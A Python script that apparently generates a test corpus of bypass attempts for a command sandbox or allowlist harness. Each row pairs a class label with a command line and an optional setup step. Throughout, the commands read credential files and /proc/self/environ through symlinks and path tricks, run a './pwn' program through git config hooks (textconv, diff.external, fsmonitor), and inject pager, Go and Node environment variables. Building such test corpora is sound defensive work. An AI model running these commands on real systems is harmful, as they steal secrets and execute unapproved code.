#!/usr/bin/env python3
"""Round 5 candidates (issue 29): program knowledge. Writes attacks.tsv
(class<TAB>line, harness.py's format) on stdout."""
rows = []
def add(cls, *lines, setup=None):
    for l in lines:
        rows.append((cls, ("setup:" + setup + " ;;; " + l) if setup else l))

# diff DIR FILE compares DIR/basename(FILE) with FILE.
for s, lines in [
    ("echo x > environ", ["diff /proc/self environ", "diff environ /proc/self", "diff -a /proc/self environ",
                          "diff -q /proc/thread-self environ", "diff --text /proc/self/ ./environ", "diff -u /proc/1 environ",
                          "diff --from-file=/proc/self environ", "diff --to-file=/proc/self environ", "diff /proc/self/ environ -a"]),
    ("mkdir -p docs && echo x > docs/hosts.yml", ["diff ~/.config/gh docs/hosts.yml", "diff @H@/.config/gh docs/hosts.yml", "diff -u docs/hosts.yml ~/.config/gh/"]),
    ("echo x > hosts.yml", ["diff ~/.config/gh hosts.yml", "cmp ~/.config/gh hosts.yml"]),
    ("echo x > .bashrc", ["diff ~ .bashrc"]),
]:
    add("diff-dir-basename", *lines, setup=s)

# trees with symbolic links into the home
add("tree-symlink", "diff -rN vendor src", "diff -r vendor src", "diff -ruN vendor src", "diff -rN src vendor",
    "diff -Nr --text vendor src", "diff -rN --no-dereference vendor src", "diff -r -N vendor/ src/",
    "grep -R CANARY vendor", "grep -R . vendor", "grep -r CANARY vendor/keys", "grep -r CANARY vendor/", "grep -rh . vendor",
    "grep --dereference-recursive CANARY", "grep -R CANARY", "grep -R -e CANARY .", "grep -r CANARY", "grep -d recurse CANARY vendor",
    "grep -r CANARY vendor/notes.txt", "grep --derefer CANARY vendor", "egrep -R CANARY vendor", "fgrep -R CANARY .",
    "rg -L CANARY", "rg --follow CANARY vendor", "rg -L . vendor", "rg CANARY vendor/keys", "rg -uuu -L CANARY", "rg CANARY vendor/notes.txt",
    "rg -L --hidden CANARY", "rg --follow --no-ignore CANARY", "rg -L -uu CANARY",
    "du -aL vendor", "tree -l vendor", "ls -lLR vendor", "find -L vendor -type f", "wc -c vendor/keys/id_rsa",
    "head vendor/notes.txt", "sort vendor/settings.ini", "cat vendor/keys/../.netrc", "cat vendor/keys/../.config/gh/hosts.yml",
    "tail vendor/keys/../.config/gh/hosts.yml", "cd vendor/keys/.. && cat .config/gh/hosts.yml",
    "cd -P vendor/keys/.. && cat .config/gh/hosts.yml", "cd vendor/keys && cat ../.config/gh/hosts.yml",
    "cd vendor/keys && cd .. && cat .config/gh/hosts.yml", "cd -P vendor/keys && cd .. && cat .config/gh/hosts.yml",
    "cd vendor/keys; cd -P ..; cat .config/gh/hosts.yml", "pushd vendor/keys; cd -P ..; cat .config/gh/hosts.yml",
    "set -P; cd vendor/keys/..; cat .config/gh/hosts.yml", "set -o physical; cd vendor/keys; cd ..; cat .config/gh/hosts.yml",
    "env -C vendor/keys/.. cat .config/gh/hosts.yml", "env -C vendor/keys cat ../.config/gh/hosts.yml",
    "git diff --no-index vendor src", "git diff --no-index vendor/notes.txt README.md", "git diff --no-index -- vendor/keys src",
    "cat vendor/keys/../.aws/credentials", "tac vendor/keys/../.config/gh/hosts.yml", "nl vendor/keys/../.config/gh/hosts.yml",
    "less vendor/keys/../.config/gh/hosts.yml", "sed -n p vendor/keys/../.config/gh/hosts.yml", "awk 1 vendor/keys/../.config/gh/hosts.yml",
    "jq -R . vendor/keys/../.config/gh/hosts.yml", "grep . vendor/keys/../.config/gh/hosts.yml", "cut -c1- vendor/keys/../.config/gh/hosts.yml")

# git diff --no-index and git grep outside the index read untracked and ignored files
add("git-untracked", "git diff --no-index config src", "git diff --no-index config empty", "git diff --no-index . src",
    "git diff --no-index -- config src", "git diff --no-index --stat config src", "git diff --no-index config/ src/",
    "git diff --no-ind config src", "git diff --no-index --text config src",
    "git grep --no-index CANARY", "git grep --no-index -e CANARY", "git grep --untracked --no-exclude-standard CANARY",
    "git grep --untracked CANARY", "git grep --no-index --exclude-standard CANARY", "git grep --no-index CANARY -- .",
    "git grep --no-ind CANARY", "git grep --no-exclude-standard --untracked CANARY", "git grep --untracked --no-exclude CANARY",
    "git grep --no-index -h . config", "git grep --no-index . config/.env.production",
    setup="mkdir -p empty")

# configuration values git prints (a token in the home's .gitconfig or a remote URL)
for s, lines in [
    ("git config --global http.extraHeader 'Authorization: Bearer CANARY_GITCFG_20'",
     ["git config --list", "git config -l", "git config --global --list", "git config --get http.extraheader",
      "git config --get-regexp http", "git config --get-all http.extraHeader", "git config --list --show-origin",
      "git config --get-urlmatch http https://x", "git config --global -l", "git config --includes -l", "git config --get-regexp .",
      "git config --global --get-regexp .", "git config -l --name-only", "git help -a", "git var -l", "git config --null -l"]),
    ("git remote add origin https://u:CANARY_REMOTE_21@github.com/a/b",
     ["git config --get remote.origin.url", "git config -l", "git config --get-regexp remote", "git config --local --list",
      "git remote", "git branch -vv", "git status -sb", "git config --get-regexp url", "git ls-remote --get-url",
      "git remote get-url origin", "git config --get-urlmatch remote https://github.com", "git for-each-ref --format='%(upstream:remotename)'"]),
    ("git config --global url.https://CANARY_INSTEAD_22@github.com/.insteadOf https://github.com/",
     ["git config --get-regexp insteadof", "git config -l"]),
]:
    add("git-config-values", *lines, setup=s)

# an embedded bare repository (a directory with HEAD, objects and refs)
bare = "git clone -q --bare . evil && git -C evil config diff.x.textconv @P@/pwn && mkdir -p evil/info && echo '* diff=x' > evil/info/attributes"
add("git-bare-embedded", "git -C evil show", "cd evil && git show", "git -C evil log -p", "git -C evil log -p -1",
    "cd evil && git log -p -1", "git -C evil show HEAD", "git -C evil show --stat", "git -C evil grep -e x HEAD",
    "(cd evil; git show)", "cd evil; git log --patch", setup=bare)
ext = "git clone -q --bare . evil && git -C evil config diff.external @P@/pwn"
add("git-bare-embedded", "git -C evil diff 4b825dc642cb6eb9a060e54bf8d69288fbee4904 HEAD", "cd evil && git diff 4b825dc642cb6eb9a060e54bf8d69288fbee4904 HEAD",
    "git -C evil diff HEAD 4b825dc642cb6eb9a060e54bf8d69288fbee4904", setup=ext)
fsm = "git clone -q --bare . evil && git -C evil config core.bare false && git -C evil config core.worktree .. && git -C evil config core.fsmonitor @P@/pwn"
add("git-bare-embedded", "git -C evil status", "cd evil && git status", "git -C evil diff", "git -C evil describe --dirty",
    "cd evil; git status --short", "git -C evil diff --stat", setup=fsm)
fsm2 = "mkdir -p sub && git clone -q --bare . sub/r && git -C sub/r config core.bare false && git -C sub/r config core.worktree .. && git -C sub/r config core.fsmonitor @P@/pwn"
add("git-bare-embedded", "git -C sub/r status", "cd sub/r && git status", "cd sub/r; git diff", setup=fsm2)

# project files a program reads by a fixed name, as links to a secret: parse errors print them
for s, lines in [
    ("printf 'module m\\n' > go.mod && ln -sf ../.env go.work", ["go list", "go list ./...", "go list -m", "go version", "go env GOPATH", "go env GOMOD", "go doc fmt", "go list -m -json", "go help"]),
    ("ln -sf .env go.mod", ["go list", "go list ./...", "go list -m", "go version", "go env GOPATH", "go env GOMOD", "go doc fmt", "go list -e -json", "go list -m all", "go env GOFLAGS", "go env GOWORK"]),
    ("ln -sf config/.env.production go.mod", ["go list", "go list -m"]),
    ("mkdir -p sub && ln -sf ../.env sub/go.mod", ["go list ./sub", "go list ./...", "cd sub && go list"]),
    ("ln -sf .env package.json", ["npm ls", "npm ls --json", "npm -v", "npm --version", "npm list --depth=0", "npm ls -a", "npm ls -p"]),
    ("ln -sf .env .npmrc", ["npm ls", "npm -v", "npm --version", "npm ls --json", "npm ls --long"]),
    ("echo '{\"name\":\"a\",\"version\":\"1.0.0\",\"dependencies\":{\"x\":\"1\"}}' > package.json && mkdir -p node_modules/x && ln -sf ../../.env node_modules/x/package.json",
     ["npm ls", "npm ls --json", "npm ls --all", "npm ls -l"]),
    ("echo '{\"name\":\"a\",\"version\":\"1.0.0\"}' > package.json && ln -sf .env package-lock.json", ["npm ls", "npm ls --json"]),
    ("ln -sf .env .ignore && touch API_KEY=CANARY_ENV_1", ["rg --debug x", "rg --files --debug", "rg --trace x"]),
    ("ln -sf .env .rgignore", ["rg --debug x", "rg x"]),
    ("ln -sf .env .gitignore2 && ln -sf .env .mailmap", ["git shortlog -sne HEAD", "git log --use-mailmap --format=%aN", "git shortlog HEAD"]),
    ("ln -sf .env Makefile", ["make --version", "make -v"]),
    ("ln -sf .env .python-version", ["python3 --version", "python --version", "pip --version", "python3 -V"]),
    ("ln -sf .env .nvmrc && ln -sf .env .node-version", ["node --version", "node -v", "npm -v"]),
    ("ln -sf .env .tool-versions", ["python3 --version", "node --version"]),
]:
    add("fixed-name-link", *lines, setup=s)

# project configuration files that programs read by a fixed name
for s, lines in [
    ("printf 'logs-dir=@M@/npmlogs\\n' > .npmrc", ["npm ls", "npm ls --json", "npm -v", "npm --version", "npm list --depth=0", "npm ls -a"]),
    ("printf 'cache=@M@/npmcache\\n' > .npmrc", ["npm ls", "npm -v", "npm --version"]),
    ("printf 'loglevel=silly\\nlogs-dir=@M@/l\\n' > .npmrc", ["npm ls"]),
    ("printf 'go 1.21\\ntoolchain go1.21.0\\n' >> go.mod; printf 'module m\\n' | cat - go.mod > g && mv g go.mod", ["go list", "go version"]),
    ("printf 'module m\\n\\ngo 1.21\\n' > go.mod && printf 'go 1.21\\n\\nuse ../outside\\n' > go.work && mkdir -p ../outside && printf 'module o\\n' > ../outside/go.mod && printf 'package o\\n// CANARY_OUT_1\\n' > ../outside/o.go",
     ["go list all", "go list -m all", "go list -f '{{.Doc}}' o", "go list -json o"]),
    ("printf 'module m\\n\\ngo 1.21\\nreplace o => ../outside\\nrequire o v0.0.0\\n' > go.mod && mkdir -p ../outside && printf 'module o\\n' > ../outside/go.mod && printf '// Package o CANARY_OUT_2.\\npackage o\\n' > ../outside/o.go",
     ["go list -f '{{.Doc}}' o", "go list -m -json all", "go doc o", "go doc -all o"]),
    ("printf '[core]\\n\\tfsmonitor = @P@/pwn\\n' > 0 && mkdir -p 0d", ["echo x | xargs --process-slot-var=GIT_CONFIG_GLOBAL git status"]),
]:
    add("project-config", *lines, setup=s)

# assignments and environment that programs read
add("assign-env", "MANPAGER=./pwn man ls", "MANOPT=-P./pwn man ls", "PAGER=./pwn man ls", "MANROFFOPT=x man ls", "BROWSER=./pwn git help -w log",
    "GIT_PAGER=./pwn git -p log", "LESSOPEN='|./pwn %s' less README.md", "LESSKEYIN=README.md less README.md",
    "RIPGREP_CONFIG_PATH=notes.txt rg x", "GIT_CONFIG_GLOBAL=notes.txt git status", "XDG_CONFIG_HOME=. git status",
    "HOME=. git status", "HOME=. jq . data.json", "MAGIC=README.md file README.md", "TZ=:@H@/.aws/credentials date",
    "LC_ALL=C sort README.md", "LANG=C.UTF-8 grep x README.md", "GREP_COLORS=mt=01 grep x README.md", "TERM=dumb less README.md",
    "COLUMNS=10 ls", "NO_COLOR=1 ls", "TAR_OPTIONS=x cat README.md", "GOFLAGS=-modfile=../x go list", "GOFLAGS=-toolexec=./pwn go list",
    "GOENV=notes.txt go list", "GOWORK=../x go list", "npm_config_logs_dir=@M@/l npm ls", "NPM_CONFIG_CACHE=@M@/c npm ls",
    "NODE_OPTIONS='--require ./x.js' node --version", "PYTHONSTARTUP=x.sh python3 --version", "JQ_COLORS=1 jq . data.json",
    "AWKPATH=. awk 1 README.md", "POSIXLY_CORRECT=1 sort README.md", "TMPDIR=@M@ sort README.md", "_POSIX2_VERSION=199209 sort +0 README.md")

# wrappers and their option spellings
add("wrapper-opts", "timeout -k1 5 cat README.md", "timeout --kill=1 5 cat README.md", "timeout 5s -- cat README.md",
    "nice -n 5 -- cat README.md", "nice -5 cat README.md", "nice --5 cat README.md", "nice -+5 cat README.md",
    "stdbuf -oL cat README.md", "stdbuf --output=0 cat README.md", "setsid -w cat README.md", "nohup cat README.md",
    "env -- cat README.md", "env -i cat README.md", "env -u HOME cat README.md", "env --unset=PATH cat README.md",
    "env -i PATH=. cat README.md", "env -u PATH cat README.md", "env --ignore-signal=PIPE cat README.md",
    "env -C /proc/self cat environ", "env --chdir=/proc/self cat environ", "env -C/proc/self cat environ",
    "xargs -a README.md", "xargs --arg-file=README.md echo", "xargs -a /proc/self/environ", "xargs -0 -a /proc/self/environ",
    "xargs -a vendor/notes.txt", "xargs -a vendor/settings.ini echo", "echo x | xargs -E x cat README.md",
    "echo | xargs -I{} cat README.md", "echo | xargs -i cat README.md", "echo | xargs -iX cat X",
    "command -p cat README.md", "builtin cd /tmp", "builtin printf x", "command cd /proc/self && cat environ")

# the working directory: the directory stack, ~-, cd -
add("cwd-stack", "cd /proc/self; cd @P@; cd -; cat environ", "cd /proc/self; cd @P@; cd -- -; cat environ",
    "cd /proc/self && cd @P@ && cat ~-/environ", "cd /proc/self; cd -; cd -; cat environ",
    "pushd /proc/self >/dev/null; pushd @P@ >/dev/null; pushd >/dev/null; cat environ",
    "pushd /proc/self; pushd @P@; pushd +1; cat environ", "pushd /proc/self; pushd @P@; popd; cat environ",
    "pushd -n /proc/self; pushd; cat environ", "pushd /proc/self; pushd @P@; popd +0; cat environ",
    "pushd /proc/self; pushd @P@; popd -n +1; pushd; cat environ", "pushd /proc/self; cd @P@; popd -0; cat environ",
    "pushd /proc/self; pushd /tmp; pushd -1; cat environ", "cd /proc; cd self; cd ..; cd -; cat environ",
    "cd ~+/../../proc/self; cat environ", "cd /proc/self; cat ~+/environ", "cd -L /proc/self; cat environ",
    "OLDPWD=/proc/self; cd -; cat environ", "cd /proc/self; OLDPWD=@P@ cd -; cat environ",
    "cd ''; cat environ", "cd /proc/self/; cd ./; cat ./environ", "cd /proc/self/task/..; cat environ",
    "cd /proc/thread-self; cat environ", "cd /proc/self/root/proc/self && cat environ", "cd /proc/self/cwd && cat .env")

# /proc spellings
add("proc-spelling", "cat /proc/thread-self/environ", "cat /proc/self/task/*/environ", "cat /proc/*/environ",
    "cat /proc//self/environ", "cat /proc/./self/environ", "cat /proc/self/../self/environ", "cat /proc/self/root/proc/self/environ",
    "cat /proc/self/root@H@/.ssh/id_rsa", "cat /proc/1/root/proc/self/environ", "cat /proc/self/cwd/../home/.netrc",
    "head -c 9999 /proc/thread-self/environ", "tr '\\0' '\\n' < /proc/thread-self/environ", "sort -z /proc/thread-self/environ",
    "date -f /proc/self/environ", "file -f /proc/self/environ", "tree --fromfile /proc/self/environ",
    "grep -a CANARY /proc/self/environ", "grep -ra CANARY /proc/self/", "grep -a CANARY /proc/thread-self/environ",
    "rg -a CANARY /proc/thread-self/environ", "less /proc/thread-self/environ", "cat /dev/fd/../environ",
    "cat /proc/self/fd/../environ", "cat /proc/self/map_files/../environ", "cat /proc/self/task/../environ", "cut -b1- /proc/thread-self/environ")

# options that name files read as lists or patterns
add("list-readers", "file -f vendor/settings.ini", "file -f .env", "file --files-from=vendor/notes.txt", "file -f- < vendor/notes.txt",
    "tree --fromfile vendor/notes.txt", "tree --fromfile . < .env", "tree --fromfile vendor/settings.ini",
    "date -f vendor/settings.ini", "date --file=vendor/notes.txt", "date --fi=vendor/notes.txt",
    "git blame --contents vendor/settings.ini README.md", "git blame --cont vendor/notes.txt README.md",
    "git grep -h -f vendor/notes.txt -e .", "git ls-files -o -i --exclude-from=vendor/settings.ini",
    "git rev-parse --resolve-git-dir vendor/settings.ini", "git rev-parse --resolve-git-dir .env",
    "git config -f vendor/settings.ini -l", "git config --file=vendor/notes.txt --list", "git config --fi vendor/notes.txt -l",
    "git config --blob HEAD:README.md -l", "sort --random-source=vendor/notes.txt README.md",
    "diff --from-file vendor/notes.txt README.md", "cmp -l vendor/notes.txt README.md", "jq -R . vendor/settings.ini",
    "grep -f vendor/notes.txt -r .", "grep -o -f vendor/settings.ini -e . README.md")

# find's leading options, -- and expression spellings
add("find-grammar", "find -- -delete", "find -H -- -delete", "find -- . -delete", "find -D exec -- -delete",
    "find -O3 -- -delete", "find -P -- -exec ./pwn ';'", "find -- -fprint @M@/x", "find -- . -fls @M@/x",
    "find . -name x -- -delete", "find ./ -delete", "find -L . -name x", "find . -xtype l -delete",
    "find . -newer .env", "find . -name '*.md' -printf '%p\\n'", "find -- . -name '*.md'", "find . '(' -delete ')'",
    "find . ! -delete", "find . , -delete", "find . -o -delete", "find -files0-from vendor/notes.txt",
    "find . -fprintf @M@/x %p", "find . -ok ./pwn ';' < /dev/null")

# tree's own grammar
add("tree-grammar", "tree -- -o @M@/x", "tree -o@M@/x", "tree -R -H x", "tree --fromfile -- vendor/notes.txt", "tree -X", "tree -J",
    "tree --gitfile=vendor/settings.ini", "tree --infofile=vendor/notes.txt --info", "tree --hintro=vendor/notes.txt -H x",
    "tree --houtro vendor/settings.ini -H .", "tree -H . --hintro vendor/notes.txt", "tree --info", "tree -a vendor/keys",
    "tree --fromtabfile vendor/notes.txt", "tree -C --charset=x", "tree -T title -H .", "tree --filelimit=1", "tree -o /dev/stdout")

# gawk, jq, sed and git option spellings
add("program-opts", "awk -- '{print}' README.md", "gawk --lint=fatal 1 README.md", "gawk -Wversion", "gawk -W version",
    "awk -v x=1 '{print x}' README.md", "gawk --sandbox 1 README.md", "gawk -M 1 README.md", "gawk --pretty 1 README.md",
    "gawk --dump 1 README.md", "gawk -c 1 README.md", "gawk --csv 1 README.md", "gawk -k 1 README.md",
    "jq -n -- '$a'", "jq -n '$__prog_args'", "jq -n 'input_filename'", "jq -n '$__loc__'", "jq -n 'get_prog_origin'",
    "jq -n 'get_jq_origin'", "jq -n '$ENV'", "jq -n '[inputs]' vendor/notes.txt", "jq -n 'input' -- vendor/notes.txt",
    "jq -- -n . data.json", "jq -nr -- --rawfile a vendor/notes.txt", "jq . -- --rawfile a vendor/notes.txt '$a'",
    "jq -n --rawfile a vendor/notes.txt '$a'", "jq -n --args '$ARGS' a b", "jq -L . -n 1", "jq -n 'splits(\"x\")'",
    "sed -n --debug p README.md", "sed -s -n F README.md", "sed -n --posix p README.md", "sed -z p README.md",
    "sed -n --sandbox p README.md", "sed --follow-symlinks -n p vendor/notes.txt", "sed -n -- p README.md",
    "git grep --open=./pwn x", "git grep --open-files=./pwn x", "git grep -O./pwn x", "git grep --op=./pwn x",
    "git show --output=@M@/x", "git reflog --output=@M@/x", "git shortlog --output=@M@/x HEAD", "git stash show --output=@M@/x",
    "git log --out=@M@/x", "git diff --output @M@/x", "git describe --output=@M@/x", "git rev-list --output=@M@/x HEAD",
    "git log -p --ext-diff", "git log --textconv -p", "git show --show-signature", "git log --show-signature",
    "git -p log", "git --paginate log", "git help -i log", "git help -w log", "git help --web log", "git help -m log",
    "git version --build-options", "git rev-parse --local-env-vars", "git rev-parse --git-path hooks",
    "git cat-file --filters HEAD:README.md", "git cat-file --textconv HEAD:README.md", "git cat-file --batch-all-objects --batch",
    "git ls-files --with-tree=HEAD", "git ls-files --format='%(objectname)'", "git log --stdin < README.md",
    "git -c core.pager=./pwn log", "git --exec-path=. version", "git --list-cmds=main", "git --namespace=x log",
    "git status --ignored", "git status --untracked-files=all", "git log --no-walk --all", "git log -g", "git log --walk-reflogs",
    "man ls", "man 1 ls", "man git-log", "man ls.1", "man ./ls", "man -l README.md", "man git", "man 5 gitignore")

import sys
for c, l in rows:
    print(c + "\t" + l)
